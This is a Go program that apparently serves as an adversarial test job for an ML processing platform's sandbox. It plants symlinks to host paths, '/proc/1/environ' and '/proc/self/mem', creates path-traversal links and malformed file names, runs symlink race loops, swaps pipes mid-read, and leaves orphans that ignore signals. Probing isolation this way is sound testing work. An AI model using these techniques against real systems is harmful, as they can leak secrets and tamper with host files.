package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

// orphans leaves processes behind that have a session of their own, hear no signal, write without end and hold
// what it wrote to.
func orphans() {
	for range 3 {
		c := exec.Command("/proc/self/exe")
		c.Env, c.Stdout, c.Stderr = append(os.Environ(), "ORPHAN=1"), os.Stdout, os.Stderr
		c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := c.Start(); err != nil {
			fmt.Println("no orphan:", err)
			os.Exit(1)
		}
	}
	time.Sleep(300 * time.Millisecond)
	fmt.Println("orphans are left")
	os.Exit(0)
}

func orphan() {
	signal.Ignore(syscall.SIGTERM, syscall.SIGHUP, syscall.SIGINT, syscall.SIGPIPE, syscall.SIGQUIT)
	for {
		fmt.Println("an orphan writes")
		time.Sleep(time.Millisecond)
	}
}

const out = "/opt/ml/processing/out/"

// outputs leaves what is no output: links of every kind, pipes, sockets, and names that no file should have. The last part
// of PLACE is a place on the host.
func outputs() {
	host := os.Getenv("PLACE")
	for name, target := range map[string]string{
		"absolute": host + "/victim", "relative": "../../../../../../../../../../" + host + "/victim", "folder": host, "root": "/", "itself": ".",
		"loop": "loop", "memory": "/proc/self/mem", "parent": "..", "zero": "/dev/zero", "secret": "/proc/1/environ",
	} {
		must(os.Symlink(target, out+name))
	}
	must(syscall.Mkfifo(out+"pipe", 0o666))
	_, err := net.Listen("unix", out+"socket")
	must(err)
	must(os.WriteFile(out+"file", []byte("good"), 0o644))
	must(os.Link(out+"file", out+"again"))
	must(os.Mkdir(out+"deep", 0o755))
	for _, name := range []string{"new\nline", "tab\t", "bell\a", "esc\x1b[31m", "quote\"'<&>", "percent%2e%2e%2f", "back\\..\\slash", strings.Repeat("n", 255), "ünï", "?query=1#x", "+ +"} {
		must(os.WriteFile(out+"deep/"+name, []byte("good"), 0o644))
	}
	f, err := os.Create(out + "deep/hole")
	must(err)
	must(f.Truncate(1 << 20))
	must(f.Close())
	must(os.WriteFile(out+"locked", []byte("good"), 0))
	must(os.Chmod(out+"deep", 0))
	many := os.Getenv("MANY") // a whole path, or one that is no text
	switch many {
	case "long":
		at := out + "long"
		for range 5 {
			at += "/" + strings.Repeat("l", 250)
		}
		must(os.MkdirAll(at, 0o755))
		must(os.WriteFile(at+"/f", []byte("good"), 0o644))
	case "bytes":
		must(os.WriteFile(out+"not\xfftext", []byte("good"), 0o644))
	}
	fmt.Println("outputs are laid")
}

// race changes what it writes to a continuous output between a file, a pipe, a directory and links to outside.
func race() {
	host := os.Getenv("PLACE")
	must(os.MkdirAll(out+"racing/d", 0o755))
	must(os.WriteFile(out+"racing/d/victim", []byte("mine"), 0o644))
	for end := time.Now().Add(4 * time.Second); time.Now().Before(end); {
		at := out + "racing/x"
		for _, put := range []func() error{
			func() error { return os.WriteFile(at, []byte("good"), 0o644) },
			func() error { return os.Symlink(host+"/victim", at) },
			func() error { return syscall.Mkfifo(at, 0o666) },
			func() error { return os.Symlink("../../../../../../../../../.."+host+"/victim", at) },
		} {
			must(put())
			must(os.Remove(at))
		}
		d := out + "racing/d"
		must(os.Rename(d, d+"-real"))
		must(os.Symlink(host, d))
		must(os.Remove(d))
		must(os.Rename(d+"-real", d))
	}
	must(os.WriteFile(out+"racing/last", []byte("good"), 0o644))
	fmt.Println("the race is over")
}

// pipes puts other things where the platform makes and opens pipes, and reads what is left.
func pipes() {
	at, host := "/opt/ml/input/data/", os.Getenv("PLACE")
	for pass, put := range []func(name string) error{
		func(name string) error { return os.Symlink(host+"/victim", name) },
		func(name string) error { return os.WriteFile(name, []byte("x"), 0o644) },
		func(name string) error { return errors.Join(os.Mkdir(name, 0o755), os.Mkdir(name+"/x", 0o755)) },
	} {
		channel := fmt.Sprintf("%sp%d_", at, pass)
		f, err := os.Open(channel + "0")
		must(err)
		// The next is there as soon as this is open; it becomes something else before anybody reads it.
		for range 2000 {
			if _, err := os.Lstat(channel + "1"); err == nil {
				break
			}
			time.Sleep(time.Millisecond)
		}
		must(os.RemoveAll(channel + "1"))
		must(put(channel + "1"))
		b, err := io.ReadAll(f)
		must(err)
		f.Close()
		fmt.Printf("pass of p%d: %d bytes\n", pass, len(b))
	}
	for i := range 200 { // one opened and closed, again and again
		f, err := os.OpenFile(at+"p3_0", os.O_RDONLY|syscall.O_NONBLOCK, 0)
		if err != nil && i == 0 {
			must(err)
		}
		f.Close()
	}
	fmt.Println("pipes are attacked")
}

// views tries to change what is shown of files that are brought when they are read.
func views() {
	at := "/opt/ml/input/data/fast/"
	all, err := os.ReadDir(at)
	must(err)
	if len(all) == 0 {
		fmt.Println("escaped: views: there is nothing")
		return
	}
	name := at + all[0].Name()
	try("view: write", func() error { return os.WriteFile(name, []byte("x"), 0o644) })
	try("view: create", func() error { return os.WriteFile(at+"new", []byte("x"), 0o644) })
	try("view: remove", func() error { return os.Remove(name) })
	try("view: rename", func() error { return os.Rename(name, at+"other") })
	try("view: mode", func() error { return os.Chmod(name, 0o777) })
	try("view: owner", func() error { return os.Chown(name, 0, 0) })
	try("view: link", func() error { return os.Link(name, at+"link") })
	try("view: symlink", func() error { return os.Symlink(name, at+"link") })
	try("view: cut", func() error { return os.Truncate(name, 0) })
	try("view: attribute", func() error { return syscall.Setxattr(name, "user.x", []byte("x"), 0) })
	try("view: a long name", func() error { _, err := os.Stat(at + strings.Repeat("n", 255)); return err })
	try("view: above", func() error { _, err := os.Stat(at + "../../../../victim"); return err })
	try("view: unmount", func() error { return syscall.Unmount(strings.TrimSuffix(at, "/"), 2) })
	try("view: take its place", func() error { return os.Rename(strings.TrimSuffix(at, "/"), "/opt/ml/input/data/was") })
	// Many readers at once, each of which gives up at once.
	for range 200 {
		if f, err := os.Open(name); err == nil {
			go func() { defer f.Close(); f.ReadAt(make([]byte, 1<<20), 1<<19) }()
		}
	}
	b, err := os.ReadFile(name)
	fmt.Printf("view: %d bytes %v\n", len(b), err)
}

func must(err error) {
	if err != nil {
		fmt.Println("the attack cannot be tried:", err)
		_, file := filepath.Split(os.Args[0])
		fmt.Println(file)
		os.Exit(3)
	}
}
